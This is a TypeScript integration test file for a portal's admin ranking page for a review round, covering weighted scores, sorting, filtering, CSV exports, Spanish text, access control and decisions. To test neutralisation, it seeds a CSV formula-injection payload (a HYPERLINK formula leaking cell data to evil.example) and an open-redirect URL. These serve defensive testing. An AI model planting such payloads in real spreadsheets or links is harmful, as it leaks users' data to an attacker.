// The ranking page of a review round, with the reviews of test/unit/decisions/ranking.test.ts (worked out
// by hand there) put straight into the database.
import { expect } from 'chai';
import { and, asc, eq } from 'drizzle-orm';
import {
  applications,
  assignments,
  auditLog,
  criteria,
  decisions,
  reviewRounds,
  reviewScores,
  roundApplications,
  schools,
  type Recommendation,
} from '../../../models/schema.js';
import { csvLine, type CsvValue } from '../../../server/services/shared/csv.js';
import { rankRound } from '../../../server/services/decisions/ranking.js';
import { reviewExport } from '../../../server/services/decisions/ranking-export.js';
import { schoolMatchKey } from '../../../server/services/schools/match-key.js';
import { startHarness, type Harness } from '../../helpers/harness.js';
import { createUser, signIn, createOpenCycle, closeApplicationsOf } from '../../helpers/factories.js';
import { submitForm, readable } from '../../helpers/forms.js';

type Agent = ReturnType<Harness['agent']>;
const EPS = 1e-9;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

const SCHOOLS = {
  A: { name: 'Alder High School', city: 'Portland', state: 'OR', level: 'high' },
  B: { name: 'Birch Academy', city: 'Austin', state: 'TX', level: 'high' },
  C: { name: 'Cedar Middle School', city: 'Eugene', state: 'OR', level: 'middle' },
  D: { name: 'Dogwood High', city: 'Fresno', state: 'CA', level: 'high' },
  E: { name: 'Elm High', city: 'Tacoma', state: 'WA', level: 'high' },
} as const;
type App = keyof typeof SCHOOLS;

// [reviewer, application, status, c1 (weight 2), c2, c3, recommendation]
const REVIEWS: Array<[1 | 2 | 3, App, 'submitted' | 'draft' | 'assigned', number[], Recommendation | null]> = [
  [1, 'A', 'submitted', [5, 5, 5], 'gold'],
  [1, 'B', 'submitted', [4, 3, 3], 'silver'],
  [1, 'C', 'submitted', [2, 4, 4], 'not_recommended'],
  [1, 'D', 'submitted', [3, 4, 4], 'silver'],
  [2, 'A', 'submitted', [4, 2, 2], 'silver'],
  [2, 'B', 'submitted', [5, 4, 4], 'gold'],
  [2, 'C', 'submitted', [1, 1, 1], 'not_recommended'],
  [2, 'D', 'submitted', [2, 3, 3], 'not_recommended'],
  [3, 'B', 'submitted', [4, 5, 5], 'gold'],
  [3, 'C', 'submitted', [3, 4, 4], 'silver'],
  [3, 'D', 'draft', [1, 1, 1], 'not_recommended'],
  [3, 'A', 'assigned', [], null],
];

describe('admins: the ranking of a review round', () => {
  let h: Harness;
  let admin: Agent;
  let reviewer: Agent;
  let round1: number;
  let round2: number;
  let cycleId: number;
  const ids = {} as Record<App, number>;
  const letterOf = (id: number) => (Object.keys(ids) as App[]).find((k) => ids[k] === id);

  /** The applications listed, in order, as letters. */
  async function order(query = ''): Promise<string> {
    const res = await admin.get(`/admin/rounds/${round1}/ranking${query}`);
    expect(res.status, res.text).to.equal(200);
    return [...res.text.matchAll(/<tr data-application="(\d+)">/g)].map((m) => letterOf(Number(m[1]))).join('');
  }

  function cells(html: string, app: App): Record<string, string> {
    const row = html.split(`<tr data-application="${ids[app]}">`)[1]!.split('</tr>')[0]!;
    return Object.fromEntries(
      [...row.matchAll(/<td data-cell="(\w+)">(.*?)<\/td>/g)].map((m) => [m[1]!, m[2]!.replace(/<[^>]+>/g, '').trim()]),
    );
  }

  before(async () => {
    h = await startHarness();
    cycleId = await createOpenCycle(h.db, h.clock());
    const rubric = await h.db
      .select()
      .from(criteria)
      .where(eq(criteria.cycleId, cycleId))
      .orderBy(asc(criteria.position));
    await h.db.update(criteria).set({ weight: 2 }).where(eq(criteria.id, rubric[0]!.id));
    await createUser(h.db, { email: 'admin@program.example.org', name: 'Ada Admin', roles: ['admin'] });
    const reviewers = {
      1: await createUser(h.db, { email: 'rae@panel.example.org', name: 'Rae Lenient', roles: ['reviewer'] }),
      2: await createUser(h.db, { email: 'hal@panel.example.org', name: 'Hal Harsh', roles: ['reviewer'] }),
      3: await createUser(h.db, { email: 'mo@panel.example.org', name: 'Mo Middle', roles: ['reviewer'] }),
    };
    for (const [letter, s] of Object.entries(SCHOOLS) as Array<[App, (typeof SCHOOLS)[App]]>) {
      const [school] = await h.db
        .insert(schools)
        .values({ ...s, matchKey: schoolMatchKey(s.name, s.city, s.state) })
        .returning();
      const [app] = await h.db
        .insert(applications)
        .values({
          cycleId,
          schoolId: school!.id,
          status: letter === 'D' ? 'ineligible' : 'eligible',
          submittedAt: h.clock(),
        })
        .returning();
      ids[letter] = app!.id;
    }
    const rounds = await h.db
      .insert(reviewRounds)
      .values([
        { cycleId, number: 1, name: 'First reading', reviewersPerApplication: 3, dueAt: h.clock() },
        { cycleId, number: 2, name: 'Finalists', reviewersPerApplication: 2, dueAt: h.clock(), siteVisit: true },
      ])
      .returning();
    [round1, round2] = [rounds[0]!.id, rounds[1]!.id];
    await h.db
      .insert(roundApplications)
      .values((['A', 'B', 'C', 'D'] as const).map((l) => ({ roundId: round1, applicationId: ids[l] })));
    for (const [r, app, status, scores, recommendation] of REVIEWS) {
      const [assignment] = await h.db
        .insert(assignments)
        .values({
          roundId: round1,
          applicationId: ids[app],
          reviewerId: reviewers[r].id,
          status,
          recommendation,
          submittedAt: status === 'submitted' ? h.clock() : null,
          confidentialNote: r === 2 && app === 'C' ? '+1+2 do not share' : '',
        })
        .returning();
      if (scores.length === 0) continue;
      await h.db.insert(reviewScores).values(
        scores.map((score, i) => ({
          assignmentId: assignment!.id,
          criterionId: rubric[i]!.id,
          score,
          comment: r === 1 && app === 'A' && i === 0 ? HYPERLINK : `R${r} on ${app}, criterion ${i + 1}`,
        })),
      );
    }
    admin = h.agent();
    await signIn(admin, 'admin@program.example.org');
    reviewer = h.agent();
    await signIn(reviewer, 'rae@panel.example.org');
  });
  after(() => h.close());

  it('ranks with the hand-computed numbers, counting only submitted reviews', async () => {
    const { rows, reviewers, roundMean, histogram } = await rankRound(h.db, round1);
    const byApp = Object.fromEntries(rows.map((r) => [letterOf(r.applicationId)!, r]));
    const expected = {
      A: [4, 59 / 15, 2, true, 2, 3, [1, 1, 0]],
      B: [12.5 / 3, 166 / 45, 1, false, 3, 3, [2, 1, 0]],
      C: [2.5, 28 / 15, 2.5, true, 3, 3, [0, 1, 2]],
      D: [3, 41 / 15, 1, false, 2, 3, [0, 1, 1]],
    } as const;
    for (const [app, [mean, normalized, spread, flagged, reviewsIn, expectedIn, [gold, silver, no]]] of Object.entries(
      expected,
    )) {
      const row = byApp[app]!;
      expect(row.mean, `${app} mean`).to.be.closeTo(mean, EPS);
      expect(row.normalized, `${app} normalized`).to.be.closeTo(normalized, EPS);
      expect(row.spread, `${app} spread`).to.be.closeTo(spread, EPS);
      expect(
        [row.flagged, row.reviewsIn, row.reviewsExpected, row.gold, row.silver, row.notRecommended],
        app,
      ).to.deep.equal([flagged, reviewsIn, expectedIn, gold, silver, no]);
    }
    expect(reviewers.map((r) => [r.name, r.n, r.mean, r.sd])).to.deep.equal([
      ['Hal Harsh', 4, 2.75, 1.25],
      ['Rae Lenient', 4, 3.75, 0.75],
      ['Mo Middle', 2, 4, 0.5],
    ]);
    expect(roundMean).to.be.closeTo(3.4, EPS);
    expect(histogram.map((b) => b.count)).to.deep.equal([0, 0, 0, 1, 1, 0, 2, 0]);

    const page = await admin.get(`/admin/rounds/${round1}/ranking`);
    expect(page.status).to.equal(200);
    expect(cells(page.text, 'A')).to.include({
      reviews: '2/3 (waiting)',
      mean: '4.00',
      normalized: '3.93',
      spread: '2.00',
      recommendations: 'Gold 1, Silver 1, No 0',
      flag: '⚑ Reviewers disagree',
    });
    expect(cells(page.text, 'B')).to.include({
      reviews: '3/3',
      mean: '4.17',
      normalized: '3.69',
      spread: '1.00',
      recommendations: 'Gold 2, Silver 1, No 0',
      flag: 'No',
    });
    expect(cells(page.text, 'C')).to.include({
      mean: '2.50',
      normalized: '1.87',
      spread: '2.50',
      flag: '⚑ Reviewers disagree',
    });
    expect(cells(page.text, 'D')).to.include({
      reviews: '2/3 (waiting)',
      mean: '3.00',
      normalized: '2.73',
      spread: '1.00',
      recommendations: 'Gold 0, Silver 1, No 1',
    });
    expect(page.text).to.contain('3 + z × 1 (the midpoint plus z times a quarter of the range)');
    expect(page.text).to.contain('more than the cycle’s threshold, 1.50');
  });

  it('sorts by each column either way, ties by school name', async () => {
    expect(await order()).to.equal('BADC');
    expect(await order('?sort=normalized')).to.equal('ABDC');
    expect(await order('?sort=normalized&dir=asc')).to.equal('CDBA');
    expect(await order('?sort=spread')).to.equal('CABD');
    expect(await order('?sort=reviews')).to.equal('BCAD');
    expect(await order('?sort=name')).to.equal('ABCD');
    expect(await order('?sort=name&dir=desc')).to.equal('DCBA');
    const page = await admin.get(`/admin/rounds/${round1}/ranking?sort=normalized&dir=desc`);
    expect(readable(page.text)).to.match(
      /<th scope="col" aria-sort="descending"><a href="[^"]*sort=normalized&dir=asc">Normalized<\/a> ▼/,
    );
  });

  it('filters by state, level, eligibility status and disagreement', async () => {
    expect(await order('?state=OR')).to.equal('AC');
    expect(await order('?level=middle')).to.equal('C');
    expect(await order('?status=eligible')).to.equal('BAC');
    expect(await order('?flagged=yes')).to.equal('AC');
    expect(await order('?flagged=no&sort=name')).to.equal('BD');
    expect(await order('?state=TX&flagged=yes')).to.equal('');
    expect(await order('?state=ZZ&level=castle&sort=bogus')).to.equal('BADC');
  });

  it('draws the score distribution and each reviewer around the round mean, with tables alongside', async () => {
    const { text } = await admin.get(`/admin/rounds/${round1}/ranking`);
    expect(text).to.contain('role="img" aria-labelledby="score-histogram-title score-histogram-desc"');
    expect(text).to.contain('4 applications with scores, counted by weighted mean score: 1.0–1.5: 0;');
    expect(text).to.contain('Harshest: Hal Harsh, mean 2.75; most lenient: Mo Middle, mean 4.00.');
    expect(text).to.contain('Round mean 3.40');
    const reviewerRows = [
      ...text.matchAll(
        /<tr data-reviewer="\d+"><td>([^<]+)<\/td><td>(\d+)<\/td><td>([\d.]+)<\/td><td>([\d.]+)<\/td><td>([^<]+)<\/td>/g,
      ),
    ].map((m) => m.slice(1).join(' '));
    expect(reviewerRows).to.deep.equal([
      'Hal Harsh 4 2.75 1.25 −0.65',
      'Rae Lenient 4 3.75 0.75 +0.35',
      'Mo Middle 2 4.00 0.50 +0.60',
    ]);
    expect(text).not.to.match(/\sstyle=/);
  });

  it('advances selected applications to the next round and records it; refuses others whole', async () => {
    const page = await admin.get(`/admin/rounds/${round1}/ranking`);
    expect(page.text).to.contain('Advance selected to round 2: Finalists');
    expect(page.text).to.contain(`name="applicationIds" value="${ids.A}"`);
    expect(page.text).not.to.contain(`name="applicationIds" value="${ids.D}"`); // not eligible
    const advance = (applicationIds: string[]) =>
      submitForm(admin, `/admin/rounds/${round1}/ranking`, `/admin/rounds/${round1}/advance`, {
        toRoundId: String(round2),
        applicationIds,
        returnTo: 'state=OR&sort=name&evil=1',
      });
    const inRound2 = async () =>
      (await h.db.select().from(roundApplications).where(eq(roundApplications.roundId, round2)))
        .map((r) => letterOf(r.applicationId))
        .sort()
        .join('');

    for (const refused of [[ids.A, ids.E], [ids.D]]) {
      const res = await advance(refused.map(String));
      expect(res.status).to.equal(303);
      expect(res.headers.location).to.equal(`/admin/rounds/${round1}/ranking?state=OR&sort=name&dir=asc`);
      const next = await admin.get(res.headers.location!);
      expect(next.text).to.contain(
        refused.length === 2
          ? `Not in First reading: application no. ${ids.E}. Nothing was advanced.`
          : `No longer eligible: application no. ${ids.D}.`,
      );
    }
    expect(await inRound2()).to.equal('');
    expect((await advance([])).status).to.equal(303);

    const res = await advance([String(ids.A), String(ids.B)]);
    expect((await admin.get(res.headers.location!)).text).to.contain('2 applications added to Finalists.');
    expect(await inRound2()).to.equal('AB');
    const again = await advance([String(ids.B), String(ids.C)]);
    expect((await admin.get(again.headers.location!)).text).to.contain(
      '1 application added to Finalists. 1 was already there.',
    );
    expect(await inRound2()).to.equal('ABC');

    const entries = await h.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'round.advance'), eq(auditLog.subjectId, String(round2))))
      .orderBy(asc(auditLog.id));
    expect(entries.map((e) => e.summary)).to.deep.equal([
      'Advanced 2 applications from First reading to Finalists',
      'Advanced 1 application from First reading to Finalists (1 already there)',
    ]);
    const { summaryMessage, ...details } = entries[0]!.details;
    expect(summaryMessage).to.deep.include({ key: 'audit.rounds.advanced' });
    expect(details).to.deep.equal({
      fromRoundId: round1,
      toRoundId: round2,
      applicationIds: [ids.A, ids.B],
      added: [ids.A, ids.B],
    });
    const backwards = await submitForm(admin, `/admin/rounds/${round2}/ranking`, `/admin/rounds/${round2}/advance`, {
      toRoundId: String(round1),
      applicationIds: [String(ids.A)],
    });
    expect((await admin.get(backwards.headers.location!)).text).to.contain('Choose a later round of the same cycle.');
    // The last round has no later round to advance to.
    expect((await admin.get(`/admin/rounds/${round2}/ranking`)).text).to.contain(
      'first create the next round of this cycle',
    );
  });

  it('exports the ranking and every submitted review as CSV, formulas neutralized', async () => {
    const ranking = await admin.get(`/admin/rounds/${round1}/ranking.csv?sort=normalized`);
    expect(ranking.status).to.equal(200);
    expect(ranking.headers['content-type']).to.equal('text/csv; charset=utf-8');
    expect(ranking.headers['content-disposition']).to.match(
      /^attachment; filename="?ranking-first-reading-2026-11-22\.csv"?$/,
    );
    const lines = ranking.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).to.equal(
      'Rank,Application no.,School,City,State,Level,Status,Reviews in,Reviews expected,Weighted mean,Normalized,Spread,Gold,Silver,Not recommended,Disagreement flag',
    );
    expect(lines.slice(1)).to.deep.equal([
      `1,${ids.A},Alder High School,Portland,OR,high,eligible,2,3,4,3.9333,2,1,1,0,yes`,
      `2,${ids.B},Birch Academy,Austin,TX,high,eligible,3,3,4.1667,3.6889,1,2,1,0,no`,
      `3,${ids.D},Dogwood High,Fresno,CA,high,ineligible,2,3,3,2.7333,1,0,1,1,no`,
      `4,${ids.C},Cedar Middle School,Eugene,OR,middle,eligible,3,3,2.5,1.8667,2.5,0,1,2,yes`,
    ]);
    expect(
      (await admin.get(`/admin/rounds/${round1}/ranking.csv?flagged=yes`)).text.trim().split('\r\n'),
    ).to.have.length(3);

    const reviews = await admin.get(`/admin/rounds/${round1}/reviews.csv`);
    expect(reviews.status).to.equal(200);
    const rows = reviews.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(rows).to.have.length(11); // the header and the ten submitted reviews: no draft
    expect(rows[0]).to.match(
      /^Application no\.,School,State,Reviewer,Reviewer e-mail,Submitted,Review score \(weighted mean\),Recommendation,1\. Broadening and enriching learning opportunities: score,1\. Broadening and enriching learning opportunities: comment,2\./,
    );
    expect(rows[0]).to.match(/,Confidential note \(admins only\)$/);
    expect(rows[1]).to.contain(
      `${ids.A},Alder High School,OR,Rae Lenient,rae@panel.example.org,2026-11-22T12:00:00.000Z,5,Gold,5,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",5,"R1 on A, criterion 2"`,
    );
    const halOnCedar = rows.find((r) => r.includes('Hal Harsh') && r.includes('Cedar'))!;
    expect(halOnCedar).to.contain(',1,Not recommended,1,"R2 on C, criterion 1",1,');
    expect(halOnCedar).to.match(/,'\+1\+2 do not share$/);
    expect(reviews.text).not.to.contain('R3 on D');
    // Read in batches of three, the rows are the same.
    const batched: unknown[] = [];
    for await (const row of (await reviewExport(h.db, round1, 3)).rows) batched.push(row);
    expect(batched.map((row) => csvLine(row as CsvValue[]).trimEnd())).to.deep.equal(rows.slice(1));
  });

  it('writes the CSV headers, the flag and the recommendations in the admin’s language', async () => {
    const linesOf = (text: string) =>
      text
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n');
    const ranking = linesOf(
      (await admin.get(`/admin/rounds/${round1}/ranking.csv?sort=normalized`).set('Accept-Language', 'es')).text,
    );
    expect(ranking[0]).to.equal(
      'Puesto,N.º de postulación,Escuela,Ciudad,Estado,Nivel,Situación,Evaluaciones recibidas,Evaluaciones esperadas,' +
        'Promedio ponderado,Normalizado,Dispersión,Oro,Plata,No recomendada,Marca de desacuerdo',
    );
    expect(ranking[1]).to.equal(`1,${ids.A},Alder High School,Portland,OR,high,eligible,2,3,4,3.9333,2,1,1,0,sí`);
    const reviews = linesOf((await admin.get(`/admin/rounds/${round1}/reviews.csv`).set('Accept-Language', 'es')).text);
    expect(reviews[0]).to.match(
      /^N\.º de postulación,Escuela,Estado,Evaluador\/a,Correo electrónico del evaluador\/a,Enviada,Puntaje de la evaluación \(promedio ponderado\),Recomendación,1\. Broadening and enriching learning opportunities: puntaje,1\. Broadening and enriching learning opportunities: comentario,/,
    );
    expect(reviews[0]).to.match(/,Nota confidencial \(solo para administradores\)$/);
    expect(reviews.find((r) => r.includes('Hal Harsh') && r.includes('Cedar'))).to.contain(',1,No recomendada,1,');
  });

  it('writes the ranking page and its charts in Spanish', async () => {
    const page = readable((await admin.get(`/admin/rounds/${round1}/ranking`).set('Accept-Language', 'es')).text);
    expect(page).to.contain('<html lang="es">');
    expect(page).to.contain('Cómo se calculan las cifras');
    expect(page).to.contain('4 postulaciones coinciden. Seleccione el título de una columna');
    expect(page).to.contain('⚑ Los evaluadores no coinciden');
    expect(page).to.contain('Oro 1, Plata 1, No 0');
    expect(page).to.contain('<title id="score-histogram-title">Distribución de los promedios ponderados</title>');
    expect(page).to.contain('4 postulaciones con puntajes, contadas por promedio ponderado: 1.0–1.5: 0;');
    expect(page).to.contain('Más estricto: Hal Harsh, promedio 2.75; más generoso: Mo Middle, promedio 4.00.');
    expect(page).not.to.match(/Weighted mean|Reviewers disagree|How the numbers|Download this ranking/);
  });

  it('pages 100 at a time, applications without reviews last', async () => {
    const names = Array.from({ length: 97 }, (_, i) => `Unread School ${String(i).padStart(2, '0')}`);
    const added = await h.db
      .insert(schools)
      .values(
        names.map((name) => ({
          name,
          city: 'Salem',
          state: 'OR',
          level: 'high' as const,
          matchKey: schoolMatchKey(name, 'Salem', 'OR'),
        })),
      )
      .returning();
    const apps = await h.db
      .insert(applications)
      .values(added.map((school) => ({ cycleId, schoolId: school.id, status: 'eligible' as const })))
      .returning();
    await h.db.insert(roundApplications).values(apps.map((a) => ({ roundId: round1, applicationId: a.id })));
    const first = await admin.get(`/admin/rounds/${round1}/ranking?sort=mean&dir=asc`);
    expect(first.text).to.contain('101 applications match; 100 a page, page 1 of 2.');
    expect(first.text.match(/<tr data-application=/g)).to.have.length(100);
    expect(first.text).to.match(
      /<tr data-application="\d+">\s*<td>[^]*?<td>1<\/td>\s*<td data-cell="possible">[^<]*<\/td>\s*<td><a href="\/applications\/\d+">Cedar Middle School</,
    );
    const second = await admin.get(`/admin/rounds/${round1}/ranking?sort=mean&dir=asc&page=2`);
    expect(second.text).to.contain('page 2 of 2');
    expect([...second.text.matchAll(/<tr data-application="(\d+)">/g)].map((m) => Number(m[1]))).to.deep.equal([
      apps[96]!.id,
    ]);
    expect(second.text).to.contain('<td>101</td>');
    expect(readable(second.text)).to.contain(`href="/admin/rounds/${round1}/ranking?sort=mean&dir=asc" rel="prev"`);
  });

  it('keeps the page, the exports and advancing to admins', async () => {
    for (const url of [
      `/admin/rounds/${round1}/ranking`,
      `/admin/rounds/${round1}/ranking.csv`,
      `/admin/rounds/${round1}/reviews.csv`,
    ]) {
      const res = await reviewer.get(url);
      expect(res.status, url).to.equal(403);
      expect(readable(res.text)).to.contain('This page is for admins of the program');
    }
    const post = await submitForm(reviewer, '/', `/admin/rounds/${round1}/advance`, {
      toRoundId: String(round2),
      applicationIds: [String(ids.D)],
    });
    expect(post.status).to.equal(403);
    expect(
      (await h.db.select().from(roundApplications).where(eq(roundApplications.roundId, round2))).map(
        (r) => r.applicationId,
      ),
    ).not.to.include(ids.D);
    expect((await admin.get('/admin/rounds/999999/ranking')).status).to.equal(404);
  });

  it('decides from the ranking table once applications are closed, asking why when reviews are missing', async () => {
    const ranking = `/admin/rounds/${round1}/ranking?sort=name&dir=asc`;
    const decide = (app: App, fields: Record<string, string>) =>
      submitForm(admin, ranking, `/admin/decisions/${ids[app]}`, { returnTo: ranking, ...fields });
    const decisionOf = async (app: App) =>
      (await h.db.select().from(decisions).where(eq(decisions.applicationId, ids[app])))[0];

    // While applications are open there is nothing to decide: no column of forms, and the act is refused.
    expect((await admin.get(ranking)).text).not.to.contain('form="decide-');
    expect((await decide('B', { level: 'gold' })).status).to.equal(403);
    expect(await decisionOf('B')).to.equal(undefined);

    await closeApplicationsOf(h.db, cycleId, h.clock());
    const page = (await admin.get(ranking)).text;
    expect(page).to.contain(`<select id="level-${ids.B}" name="level" form="decide-${ids.B}">`);
    expect(page).to.contain(`<form method="post" action="/admin/decisions/${ids.B}" id="decide-${ids.B}"`);
    expect(page).to.contain(`id="override-${ids.A}"`); // 2 of the 3 reviews in
    expect(page).not.to.contain(`id="override-${ids.B}"`);
    expect(page).not.to.contain(`id="level-${ids.D}"`); // not eligible

    const saved = await decide('B', { level: 'gold' });
    expect(saved.status).to.equal(303);
    expect(saved.headers.location).to.equal(ranking);
    const after = (await admin.get(ranking)).text;
    expect(after).to.contain('Decision saved: Gold.');
    expect(after).to.match(new RegExp(`id="level-${ids.B}"[^]*?<option value="gold" selected>`));
    expect((await decisionOf('B'))?.level).to.equal('gold');

    const short = await decide('A', { level: 'silver' });
    expect(short.headers.location).to.equal(ranking);
    expect(readable((await admin.get(ranking)).text)).to.contain(
      'This application has 2 of the 3 reviews its round asked for. Say why you decide on it anyway.',
    );
    expect(await decisionOf('A')).to.equal(undefined);
    await decide('A', { level: 'silver', overrideReason: 'The third reviewer withdrew; two agree.' });
    expect(await decisionOf('A')).to.include({
      level: 'silver',
      overrideReason: 'The third reviewer withdrew; two agree.',
    });

    // Only a ranking page of this portal is a place to go back to.
    const elsewhere = await decide('C', {
      level: 'not_selected',
      returnTo: 'https://evil.example/admin/rounds/1/ranking',
    });
    expect(elsewhere.headers.location).to.equal(`/admin/decisions/${ids.C}/profile`);
  });
});
